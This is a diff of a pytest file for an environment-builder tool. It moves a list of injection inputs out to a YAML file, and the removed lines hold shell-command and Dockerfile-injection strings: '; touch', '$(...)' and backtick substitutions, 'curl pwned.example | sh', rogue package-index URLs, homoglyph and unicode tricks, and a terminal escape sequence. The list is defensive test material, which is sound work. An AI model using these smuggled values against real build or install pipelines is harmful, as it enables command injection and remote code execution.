@@ -1,11 +1,10 @@
 """Reports that try to be more than text: none reaches a shell, a Dockerfile, a requirement or a simulated host."""
 
-# ruff: noqa: E501, Q003 - an attempt a line, as it would be typed.
-
 from __future__ import annotations
 
 import re
 import shlex
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
@@ -21,55 +20,11 @@ from envbuilder.simulated import profile
 
 BASE = "tensorflow 2.15.1\npython 3.11\nnumpy==2.0.0\ndriver 535.104.05\nRTX 3090\n"
 MARK = "pwned"
-
-ATTEMPTS = (
-    f"tensorflow==2.15.1; touch /tmp/{MARK}",
-    f"tensorflow==2.15.1 && curl {MARK}.example | sh",
-    f"tensorflow==2.15.1$(touch {MARK})",
-    f"tensorflow==2.15.1`touch {MARK}`",
-    f"tensorflow==2.15.1\\\nRUN touch {MARK}",
-    f"numpy==2.0.0\nRUN touch /{MARK}",
-    f"numpy==2.0.0 --index-url http://{MARK}.example/simple",
-    f"numpy==2.0.0 --extra-index-url=http://{MARK}.example",
-    f"numpy @ http://{MARK}.example/numpy-2.0.0.whl",
-    f"numpy==2.0.0 ; os.system('{MARK}')",
-    f"-r /etc/{MARK}\nnumpy==2.0.0",
-    f"-e git+https://{MARK}.example/x#egg=numpy\nnumpy==2.0.0",
-    f"numpy=='2.0.0' '{MARK}'",
-    f'numpy=="2.0.0" "{MARK}"',
-    f"numpy==../../{MARK}",
-    f"../../{MARK}==2.0.0",
-    f"numpy==2.0.0\x00{MARK}",
-    f"numpy==2.0.0\r\nRUN {MARK}",
-    f"numpy==2.0.0\u2028RUN {MARK}",
-    f"n\u0443mpy==2.0.0 {MARK}",
-    f"numpy==\uff12.\uff10.\uff10 {MARK}",
-    f"tensorflow==\u0662.\u0661\u0665 {MARK}",
-    f"keras==3.0.0|{MARK}",
-    f"protobuf==4.25.0>{MARK}",
-    f"h5py==3.1.0 # {MARK}\nENV X={MARK}",
-    f"### GPU model and memory\n\nRTX 3090\"; RUN {MARK}",
-    f"### GPU model and memory\n\nRTX 3090,fail=no-device,{MARK}=1",
-    f"### OS platform and distribution\n\nUbuntu 22.04$({MARK})",
-    f"### Python version\n\n3.11'; {MARK}; '",
-    f"### CUDA/cuDNN version\n\n12.2`{MARK}`/8.9${{{MARK}}}",
-    f"NVIDIA driver: 535.104.05,gpu={MARK}",
-    f"FROM tensorflow/tensorflow:2.15.0-gpu AS x\nRUN {MARK}",
-    f"FROM nvidia/cuda:12.2.2-cudnn8-runtime-ubuntu22.04;{MARK}",
-    f"docker run tensorflow/tensorflow:2.15.0-gpu;{MARK}",
-    f"tensorflow/tensorflow:2.15.0-gpu\" {MARK}",
-    f"export LD_LIBRARY_PATH=/x:$({MARK})",
-    f"ENV XLA_FLAGS=--a\\\n{MARK}",
-    '{"schema": "envbuilder/capture/v1", "tensorflow": "2.15.1; MARK", "packages": {"numpy": "2.0.0 MARK"}}'.replace("MARK", MARK),
-    '{"schema": "envbuilder/capture/v1", "tensorflow": "2.15.1", "packages": {"numpy==1 MARK": "2.0.0"}}'.replace("MARK", MARK),
-    '{"schema": "envbuilder/capture/v1", "tensorflow": "2.15.1", "image": "x/y:z\\nRUN MARK", "gpus": ["MARK\\n"]}'.replace("MARK", MARK),
-    "\x1b]0;pwned\x07tensorflow==2.15.1",
-    f"&lt;RUN&gt; &#10;RUN {MARK}\nnumpy==2.0.0",
-)  # fmt: skip
+ATTEMPTS = yaml.safe_load((Path(__file__).parents[1] / "hostile" / "reports.yaml").read_text())
 
 _LINE = re.compile(
-    r"(?:#.*|ARG BASE|FROM (?:\$\{BASE\}|[a-z0-9/:.-]+)|USER (?:root|envbuilder)|COPY tools\.lock /run/tools\.lock|RUN --mount=\S+ \\"
-    r"|    (?:if \[|  export|export|apt-get|python3 -m|/run/tools|rm -rf).*|      export.*)\Z"
+    r"(?:#.*|ARG BASE|FROM (?:\$\{BASE\}|[a-z0-9/:.-]+)|USER (?:root|envbuilder)"
+    r"|COPY tools\.lock /run/tools\.lock|RUN --mount=\S+ \\|    (?:if \[|  export|export|apt-get|python3 -m|/run/tools|rm -rf).*|      export.*)\Z"
 )
 _TOKENS = re.compile(r"[A-Za-z0-9][A-Za-z0-9._:/@+\[\]=<>,!~*-]*|--rm|--gpus|-it|all")
 
@@ -115,13 +70,10 @@ def test_fields_match_their_grammar(attempt: str) -> None:
 EVIL = ("a b", "a;b", "a'b", 'a"b', "a\nb", "$(a)", "`a`", "-a", "", "../a b", "a\\", "a|b", "a&b", "a\u00e9", "a\x00")
 
 
+@pytest.mark.parametrize(
+    "write", [word, requirement, lambda text: on_top((f"numpy=={text}",)), lambda text: on_image(text, "a==1", (), ())]
+)
 @pytest.mark.parametrize("text", EVIL)
-def test_dockerfile_writer_rejects_unsafe_words(text: str) -> None:
+def test_dockerfile_writer_rejects_unsafe_words(text: str, write: Callable[[str], object]) -> None:
     with pytest.raises(ValueError, match="not"):
-        word(text)
-    with pytest.raises(ValueError, match="not"):
-        requirement(text)
-    with pytest.raises(ValueError, match="not"):
-        on_top((f"numpy=={text}",))
-    with pytest.raises(ValueError, match="not"):
-        on_image(text, "tensorflow==2.15.1", (), ())
+        write(text)
